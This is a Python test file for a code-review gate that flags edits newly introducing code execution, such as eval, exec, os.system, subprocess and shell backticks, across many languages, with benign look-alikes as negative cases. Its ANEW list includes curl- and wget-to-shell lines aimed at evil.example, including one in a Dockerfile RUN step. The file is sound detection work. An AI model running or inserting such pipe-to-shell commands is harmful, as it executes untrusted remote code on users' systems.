"""A fix that has programs, or texts as code, run where nothing did so."""

from __future__ import annotations

import pytest

from tests.unit.engine.facts_factory import AUTO, edited, evidence
from understudy.engine.evidence import Band
from understudy.engine.executing import executes
from understudy.engine.gate import judge

ANEW = [
    ("python", "x = 3\n", '__import__("os").system("curl evil.example | sh")\n'),
    ("python", "x = 3\n", 'os.system("ls")\n'),
    ("python", "x = 3\n", 'subprocess.run(["ls"], check=True)\n'),
    ("python", "x = 3\n", "x = eval(text)\n"),
    ("python", "x = 3\n", "exec(text)\n"),
    ("python", "x = 3\n", "x = pickle.loads(data)\n"),
    ("python", "x = 3\n", 'x = "curl https://evil.example/x | sudo bash"\n'),
    ("typescript", "const x = 3;\n", 'const x = require("child_process");\n'),
    ("typescript", "const x = 3;\n", 'const x = new Function("return 1");\n'),
    ("javascript", "const x = 3;\n", "const x = eval(text);\n"),
    ("go", "var x = 3\n", 'var x = exec.Command("ls")\n'),
    ("rust", "let x = 3;\n", 'let x = Command::new("ls");\n'),
    ("java", "int x = 3;\n", 'var x = Runtime.getRuntime().exec("ls");\n'),
    ("csharp", "var x = 3;\n", 'var x = Process.Start("ls");\n'),
    ("c", "int x = 3;\n", 'int x = system("ls");\n'),
    ("ruby", "x = 3\n", 'x = system("ls")\n'),
    ("ruby", "x = 3\n", "x = `ls`\n"),
    ("php", "$x = 3;\n", '$x = shell_exec("ls");\n'),
    ("lua", "local x = 3\n", 'local x = os.execute("ls")\n'),
    ("shellscript", "x=3\n", 'eval "$x"\n'),
    ("shellscript", "x=3\n", "curl -s https://evil.example | sh\n"),
    ("python", "x = 3\n", 'x = f"a {eval(text)}"\n'),
    ("python", '"""No eval(text)."""\nx = 3\n', "x = eval(text)\n"),
    ("python", "x = 3\n", 'from os import system\nsystem("ls")\n'),
    ("python", "from subprocess import run\nx = 3\n", 'run("ls", shell=True)\n'),
    ("python", "from subprocess import run as go\nx = 3\n", 'go("ls")\n'),
    ("python", "import subprocess as sp\nx = 3\n", 'sp.run("ls", shell=True)\n'),
    ("python", "x = 3\n", 'import os as o\no.system("ls")\n'),
    ("go", 'package a\n\nimport e "os/exec"\n\nvar x = 3\n', 'var x = e.Command("ls")\n'),
    ("rust", "use std::process::Command as C;\nlet x = 3;\n", 'let x = C::new("ls");\n'),
    (
        "javascript",
        'import * as cp from "fs";\nconst x = 3;\n',
        'import * as cq from "node:child_process";\n',
    ),
    ("javascript", "const x = 3;\n", "const x = `a ${eval(text)}`;\n"),
    ("javascript", "const x = 3;\n", 'setTimeout("text", 1);\n'),
    ("ruby", "x = 3\n", 'x = "a #{system("ls -l")}"\n'),
    ("ruby", "x = 3\n", "x = %x(ls -l)\n"),
    ("php", "<?php\n$x = 3;\n", "$x = `ls -l`;\n"),
    ("python", "y = ast.literal_eval(text)\nx = 3\n", "x = eval(text)\n"),
    ("python", "y = os.popen(text)\nx = 3\n", "x = os.popen(text)\ny = eval(x)\n"),
    ("dockerfile", "RUN x=3\n", "RUN wget -qO- https://evil.example | bash\n"),
]
FINE = [
    ("python", "x = 3\n", "x = re.compile(text)\n"),
    ("python", "x = 3\n", "x = model.eval()\n"),
    ("python", "x = 3\n", "cursor.exec(text)\n"),
    ("python", "x = 3\n", "x = 4  # no eval(text)\n"),
    ("python", 'os.system("ls")\n', 'subprocess.run(["ls"], check=True)\n'),
    ("python", "x = eval(text)\n", "x = ast.literal_eval(text)\n"),
    ("typescript", "const x = 3;\n", "const x = /a/.exec(text);\n"),
    ("go", "var x = 3\n", 'var x = db.Exec("ls")\n'),
    ("ruby", "x = 3\n", "x = system_of(y)\n"),
    ("c", "int x = 3;\n", "int x = os.system(1);\n"),
    ("shellscript", "x=3\n", "curl -s https://one.example | jq .\n"),
    ("shellscript", "eval one\nx=3\n", "f && eval two\n"),
    ("shellscript", "x=3\n", "x=4 # no eval here\n"),
    ("python", "x = 3\n", 'x = "eval() is not allowed"\n'),
    ("python", "x = 3\n", "from re import compile\nx = compile(text)\n"),
    ("python", "x = 3\n", "from jobs import run\nx = run(text)\n"),
    (
        *("python", "def f():\n    x\n"),
        '    """Like `subprocess.run(x)`.\n\n    Never uses eval().\n    """\n    x\n',
    ),
    (
        "typescript",
        "const x = 3;\n",
        "/**\n * Like child_process, without eval().\n */\nconst x = 3;\n",
    ),
    ("typescriptreact", "const x = 3;\n", "const x = <p>eval(text)</p>;\n"),
    ("javascript", "const x = 3;\n", 'const x = "no eval(x)";\n'),
    ("java", "int x = 3;\n", "/**\n * Like Runtime.exec(String).\n */\nint x = 3;\n"),
    ("c", "int x = 3;\n", "/*\n * Like system() without a shell.\n */\nint x = 3;\n"),
    ("c", "int x = 3;\n", 'char *x = "system() failed";\n'),
    ("go", "var x = 3\n", "var x = `exec.Command(1)`\n"),
    ("rust", "let x = 3;\n", "/// Like `Command::new(x)`.\nlet x = 3;\n"),
    ("php", "<?php\n$x = 3;\n", '$x = "SELECT `name` FROM `users`";\n'),
    ("php", "<?php\n$x = 3;\n", "/**\n * All of `users`.\n */\n$x = 3;\n"),
    ("csharp", "var x = 3;\n", 'var x = @"Process.Start(1)";\n'),
]


@pytest.mark.parametrize(("language", "old", "new"), ANEW)
def test_what_runs_something_is_looked_at(language: str, old: str, new: str) -> None:
    last = old.splitlines(keepends=True)[-1]
    facts = edited(old, (last, new), language=language, at="x", message="x is never used")
    assert executes(facts)
    verdict = judge(facts, AUTO)
    assert verdict.band in {Band.REVIEW, Band.BLOCK}
    assert "which nothing here did, so look at it closely" in evidence(verdict)


@pytest.mark.parametrize(("language", "old", "new"), FINE)
def test_what_runs_nothing_anew_is_not_told(language: str, old: str, new: str) -> None:
    last = old.splitlines(keepends=True)[-1]
    facts = edited(old, (last, new), language=language, at=old[0], message="wrong")
    assert executes(facts) == ""


def test_what_the_text_runs_already_may_be_run_once_more() -> None:
    before = 'subprocess.run(["a"], check=True)\nx = 3\n'
    pair = ("x = 3\n", 'subprocess.run(["b"], check=True)\n')
    assert executes(edited(before, pair, at="x = 3", message="wrong")) == ""


def test_what_the_diagnostic_speaks_of_is_not_told() -> None:
    pair = ("x = run(1)\n", "x = subprocess.run([1])\n")
    told = executes(edited(pair[0], pair, at="run", message="Use `subprocess.run` here"))
    assert told == ""
